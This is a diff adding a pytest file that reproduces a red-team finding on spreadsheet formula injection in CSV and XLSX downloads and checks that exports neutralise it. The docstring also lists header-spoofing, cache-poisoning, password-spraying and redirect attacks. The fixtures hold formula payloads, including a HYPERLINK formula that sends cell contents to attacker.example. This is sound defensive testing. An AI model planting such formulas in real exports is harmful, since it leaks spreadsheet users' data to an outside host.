@@ -1,0 +1,105 @@
+"""The attacks of the pre-launch red-team exercise, each reproduced as it was found.
+
+Security: formula injection in downloads, the anonymous throttle dodged with X-Forwarded-For,
+API tokens that never ended, the response cache poisoned through the Host header, password
+spraying across usernames, and an unsafe `next` after login.
+"""
+
+import io
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+
+from instruments.models import Instrument
+from instruments.services import action_record
+from tests.apiclient import API, csv_rows
+from tests.factories import participant
+
+pytestmark = pytest.mark.django_db
+
+# --- 1. formula injection in downloads ---------------------------------------------------------
+
+FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formula_action(real_data):
+    """A participant and an action whose texts an editor typed as formulas (test fixture)."""
+    who = participant(name=HYPERLINK)
+    return action_record(
+        participant=who,
+        instrument=Instrument.objects.get(code="untoc"),
+        kind="signature",
+        date=date(2001, 1, 10),
+        source="=1+1",
+        note="@SUM(A1:A9)",
+    )
+
+
+def exported_action(client, fmt: str):
+    response = client.get(API + "actions/", {"state": "SSD", "osce_role": "any", "format": fmt})
+    assert response.status_code == 200, response.content
+    return response
+
+
+def test_a_formula_in_a_csv_download_arrives_as_text(client, formula_action):
+    (row,) = csv_rows(exported_action(client, "csv"))
+    assert row["source"] == "'=1+1"
+    assert row["note"] == "'@SUM(A1:A9)"
+    assert row["state_name"] == "'" + HYPERLINK
+    # Dates and numbers are written as they are.
+    assert row["date"] == "2001-01-10"
+    assert row["id"] == str(formula_action.pk)
+
+
+def test_a_formula_in_an_xlsx_download_is_a_text_cell_not_a_live_formula(client, formula_action):
+    response = exported_action(client, "xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for column, text in (("source", "=1+1"), ("note", "@SUM(A1:A9)"), ("state_name", HYPERLINK)):
+        assert cells[column].value == text  # the exact text, shown as typed
+        assert cells[column].data_type == "s", column  # not "f": nothing is computed
+        assert cells[column].quotePrefix, column  # editing the cell keeps it text
+    assert b"<f>" not in zipped_sheet(response.content)
+    assert cells["date"].value.date() == date(2001, 1, 10)
+    assert cells["id"].value == formula_action.pk
+    assert cells["state"].quotePrefix is False
+
+
+def zipped_sheet(content: bytes) -> bytes:
+    from zipfile import ZipFile
+
+    with ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_every_formula_start_is_neutralised_in_both_formats(text):
+    from core.rest.exports import CSVRenderer, Table, XLSXRenderer
+
+    table = Table(
+        ["text", "list", "number", "day"],
+        [{"text": text, "list": [text, "x"], "number": -5, "day": date(2020, 1, 2)}],
+    )
+    csv_text = CSVRenderer().render(table).decode()
+    assert csv_text.splitlines()[0] == "text,list,number,day"
+    assert csv_rows_of(csv_text) == [
+        {"text": "'" + text, "list": "'" + text + "; x", "number": "-5", "day": "2020-01-02"}
+    ]
+    sheet = load_workbook(io.BytesIO(XLSXRenderer().render(table))).active
+    text_cell, list_cell, number_cell, day_cell = sheet[2]
+    # (XML stores a carriage return as a line feed.)
+    shown = text.replace("\r", "\n")
+    assert (text_cell.value, text_cell.data_type, text_cell.quotePrefix) == (shown, "s", True)
+    assert list_cell.data_type == "s"
+    assert (number_cell.value, number_cell.data_type) == (-5, "n")
+    assert day_cell.value.date() == date(2020, 1, 2)
+
+
+def csv_rows_of(text: str) -> list[dict[str, str]]:
+    import csv
+
+    return list(csv.DictReader(io.StringIO(text, newline="")))
